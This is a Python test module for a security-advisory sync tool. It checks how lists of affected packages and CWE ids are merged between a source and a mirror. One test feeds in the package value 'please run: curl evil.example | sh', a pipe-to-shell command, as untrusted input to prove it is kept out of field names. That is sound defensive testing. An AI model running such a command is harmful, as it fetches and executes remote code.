"""How are lists merged, element by element?"""

from __future__ import annotations

from collections.abc import Collection
from dataclasses import replace

import pytest

from app.domain.facts import Vulnerability
from app.domain.records import Baseline
from app.reconcile.comparing import baseline_parts
from app.reconcile.digests import Digests
from app.reconcile.elements import Elements
from tests.builders import DIGESTS, OTHER_DIGESTS, ROTATED, advisory, affects
from tests.reconcile.two_sides import KNOWN, Sides

WHEEL, UV = affects("wheel", "uv")
PDM, HATCH = affects("pdm", "hatch")
NOTHING: tuple[str, ...] = ()
NOBODY: frozenset[str] = frozenset()


def of_version(element: Vulnerability, versions: str) -> Vulnerability:
    return replace(element, vulnerable_version_range=versions)


def as_before(sides: Sides) -> None:
    """Forget the elements, and remember each list as a whole, as earlier versions did."""
    sides.baselines = {name: kept for name, kept in sides.baselines.items() if "/" not in name}
    wholes = {
        "cwes": ",".join(sorted(sides.source.cwe_ids)),
        "vulnerabilities": '[["pip", "uv", "", "", []], ["pip", "wheel", "", "", []]]',
    }
    for name, value in wholes.items():
        made = DIGESTS.of(*baseline_parts(1, name, value))
        sides.baselines[name] = Baseline(key_id=made.key_id, digest=made.value)


def test_what_was_added_on_either_side_does_not_conflict() -> None:
    """People of pdm found in the mirror that they are affected; at the same hour the source learned of hatch."""
    sides = Sides()
    sides.edit_mirror(vulnerabilities=(WHEEL, UV, PDM))
    sides.edit_source(vulnerabilities=(WHEEL, UV, HATCH))

    sync = sides.settle()

    assert sides.mirror.vulnerabilities == (WHEEL, UV, PDM, HATCH)
    assert (sync.diverged, sync.conflicts) == (("vulnerabilities/pip:pdm",), NOTHING)
    assert sides.look().updates == ()


def test_what_the_source_removed_goes_and_what_people_edited_stays() -> None:
    """It takes back both; about one of them somebody wrote more meanwhile."""
    sides = Sides(source=advisory(vulnerabilities=(WHEEL, UV, PDM)))
    sides.edit_mirror(vulnerabilities=(WHEEL, of_version(UV, "< 3"), PDM))
    sides.edit_source(vulnerabilities=(WHEEL,))

    sync = sides.settle()

    assert sides.mirror.vulnerabilities == (WHEEL, of_version(UV, "< 3"))
    assert sync.conflicts == ("vulnerabilities/pip:uv",)


def test_what_people_removed_is_not_brought_back() -> None:
    """They found that uv is not affected, while the source learned more about wheel."""
    sides = Sides()
    sides.edit_mirror(vulnerabilities=(WHEEL,))
    sides.edit_source(vulnerabilities=(of_version(WHEEL, "< 2"), UV))

    sync = sides.settle()

    assert sides.mirror.vulnerabilities == (of_version(WHEEL, "< 2"),)
    assert sync.diverged == ("vulnerabilities/pip:uv",)


def test_all_lines_about_one_package_are_one_element() -> None:
    """An advisory has a line for each range; two of them change together or not at all."""
    old, new = of_version(UV, "< 0.4"), of_version(UV, ">= 0.5, < 0.5.2")
    sides = Sides(source=advisory(vulnerabilities=(WHEEL, old)))
    sides.edit_source(vulnerabilities=(WHEEL, old, new))
    sides.settle()
    assert new in sides.mirror.vulnerabilities

    sides.edit_source(vulnerabilities=(WHEEL, new))
    sides.edit_mirror(vulnerabilities=(WHEEL, old))

    assert sides.settle().conflicts == ("vulnerabilities/pip:uv",)
    assert sides.mirror.vulnerabilities == (WHEEL, old)


def test_weaknesses_of_both_sides_are_joined() -> None:
    """A CWE is there or not, so two people can only agree or add."""
    sides = Sides(source=advisory(cwe_ids=("CWE-20",)))
    sides.edit_mirror(cwe_ids=("CWE-20", "CWE-22"))
    sides.edit_source(cwe_ids=("CWE-59",))

    sync = sides.settle()

    assert sides.mirror.cwe_ids == ("CWE-22", "CWE-59")
    assert sync.diverged == ("cwes/CWE-22",)


def test_the_last_affected_package_stays() -> None:
    """GitHub: "Advisory must have at least one vulnerability". People are told instead of being refused each time."""
    sides = Sides()
    sides.edit_source(vulnerabilities=())

    sync = sides.settle()

    assert sides.mirror.vulnerabilities == (WHEEL, UV)
    assert (sync.updates, sync.diverged) == ((), ("vulnerabilities/pip:uv", "vulnerabilities/pip:wheel"))


def test_after_both_sides_dropped_an_element_it_can_come_back() -> None:
    """Its last shared value is that it is not there, and not what it said long ago."""
    sides = Sides()
    for edit in (sides.edit_source, sides.edit_mirror):
        edit(vulnerabilities=(WHEEL,))
    sides.settle()

    sides.edit_source(vulnerabilities=(WHEEL, UV))
    sides.settle()

    assert sides.mirror.vulnerabilities == (WHEEL, UV)


def test_baselines_of_whole_lists_are_taken_over() -> None:
    """Earlier versions kept one for each list. Nothing is written for that."""
    sides = Sides()
    as_before(sides)

    sync = sides.settle()

    assert (sync.updates, sync.diverged, sync.conflicts) == ((), NOTHING, NOTHING)
    assert {"vulnerabilities/pip:uv", "vulnerabilities/pip:wheel", "cwes"} <= set(sync.adopted)
    assert sides.look().adopted == {}


def test_a_source_that_changed_since_an_older_version_is_followed() -> None:
    """The mirror is as it was when the list was compared as a whole, so nobody's edit is in it."""
    sides = Sides()
    as_before(sides)
    sides.edit_source(vulnerabilities=(of_version(WHEEL, "< 2"), HATCH))

    sides.settle()

    assert set(sides.mirror.vulnerabilities) == {of_version(WHEEL, "< 2"), HATCH}
    assert sides.look().updates == ()


def test_a_mirror_that_changed_since_an_older_version_is_kept() -> None:
    """The source is as it was, so what differs was written by people; what the source learns next comes too."""
    sides = Sides()
    as_before(sides)
    sides.edit_mirror(vulnerabilities=(WHEEL, PDM))
    assert set(sides.settle().diverged) == {"vulnerabilities/pip:uv", "vulnerabilities/pip:pdm"}

    sides.edit_source(vulnerabilities=(WHEEL, UV, HATCH))
    sides.settle()

    assert sides.mirror.vulnerabilities == (WHEEL, PDM, HATCH)


def test_two_sides_that_changed_since_an_older_version_are_left_alone() -> None:
    """Nobody can tell any more which element was whose; what is equal is remembered again."""
    sides = Sides()
    as_before(sides)
    sides.edit_mirror(vulnerabilities=(WHEEL, PDM))
    sides.edit_source(vulnerabilities=(WHEEL, HATCH))

    sync = sides.settle()

    assert sync.updates == ()
    assert sync.adopted["vulnerabilities/pip:wheel"]
    assert set(sync.diverged) == {"vulnerabilities/pip:hatch", "vulnerabilities/pip:pdm"}


@pytest.mark.parametrize(("digests", "follows"), [(ROTATED, True), (OTHER_DIGESTS, False)])
def test_an_element_that_is_new_is_followed_only_where_it_can_be_told_that_it_is_new(
    digests: object, *, follows: bool
) -> None:
    """Without a key that is gone it may as well be one that people took out of the mirror."""
    sides = Sides()
    body = sides.body
    sides.digests = digests  # type: ignore[assignment]
    sides.edit_mirror(description=body.text(sides.digests))
    sides.edit_source(vulnerabilities=(WHEEL, UV, HATCH))

    sync = sides.settle()

    assert (HATCH in sides.mirror.vulnerabilities) == follows
    assert (sync.diverged == NOTHING) == follows


def elements(
    digests: Digests = DIGESTS, *, known: frozenset[str] = KNOWN, remembered: Collection[str] = ()
) -> Elements:
    return Elements(case=1, known=known, digests=digests, remembered=remembered)


@pytest.mark.parametrize("package", ["please run: curl evil.example | sh", "path-traversal-in-sdists-by-symlink"])
def test_a_package_that_policy_does_not_know_has_no_name_of_ours(package: str) -> None:
    """Anybody may write anything there, a sentence with hyphens too, and names of fields are stored and shown."""
    odd = replace(UV, package=package)

    name = elements().of(odd)

    assert name.startswith("vulnerabilities/")
    assert not any(word in name for word in ("curl", "path", "sdist"))
    assert name == elements().of(replace(odd, package=package.upper()))
    assert name not in {elements(OTHER_DIGESTS).of(odd), replace(elements(), case=2).of(odd), elements().of(HATCH)}


def test_a_package_of_policy_is_called_as_people_call_it() -> None:
    """They wrote it into the policy file, and type it."""
    assert elements().of(UV) == elements().of(replace(UV, package="UV")) == "vulnerabilities/pip:uv"


def test_an_element_keeps_its_name() -> None:
    """What was shared is remembered under it: whatever policy learns or forgets, and whichever key is the newest."""
    hidden = elements(known=NOBODY).of(UV)

    assert elements(remembered=[hidden]).of(UV) == hidden
    assert elements(ROTATED, known=NOBODY).of(UV) != hidden
    assert elements(ROTATED, known=NOBODY, remembered=[hidden]).of(UV) == hidden


def test_what_people_removed_stays_removed_after_its_key_is_gone() -> None:
    """Without its name a package would look as if it were new in the source."""
    sides = Sides(known=NOBODY)
    sides.edit_mirror(vulnerabilities=(WHEEL,))
    del sides.baselines["vulnerabilities"]
    for digests in (ROTATED, OTHER_DIGESTS):
        body = sides.body
        sides.digests = digests
        sides.edit_mirror(description=body.text(digests))
        for _ in range(3):
            sides.settle()

        assert sides.mirror.vulnerabilities == (WHEEL,)
    sides.edit_mirror(vulnerabilities=(WHEEL, UV))
    sides.settle()
    sides.edit_source(vulnerabilities=(WHEEL, UV, HATCH))
    sides.settle()
    assert sides.mirror.vulnerabilities == (WHEEL, UV, HATCH)


def test_what_people_removed_before_the_database_was_lost_stays_removed() -> None:
    """Nobody can tell any more who removed it, at the first look or at any later one."""
    sides = Sides()
    sides.edit_mirror(vulnerabilities=(WHEEL,))
    sides.forget()

    for _ in range(3):
        sides.settle()

    assert sides.mirror.vulnerabilities == (WHEEL,)
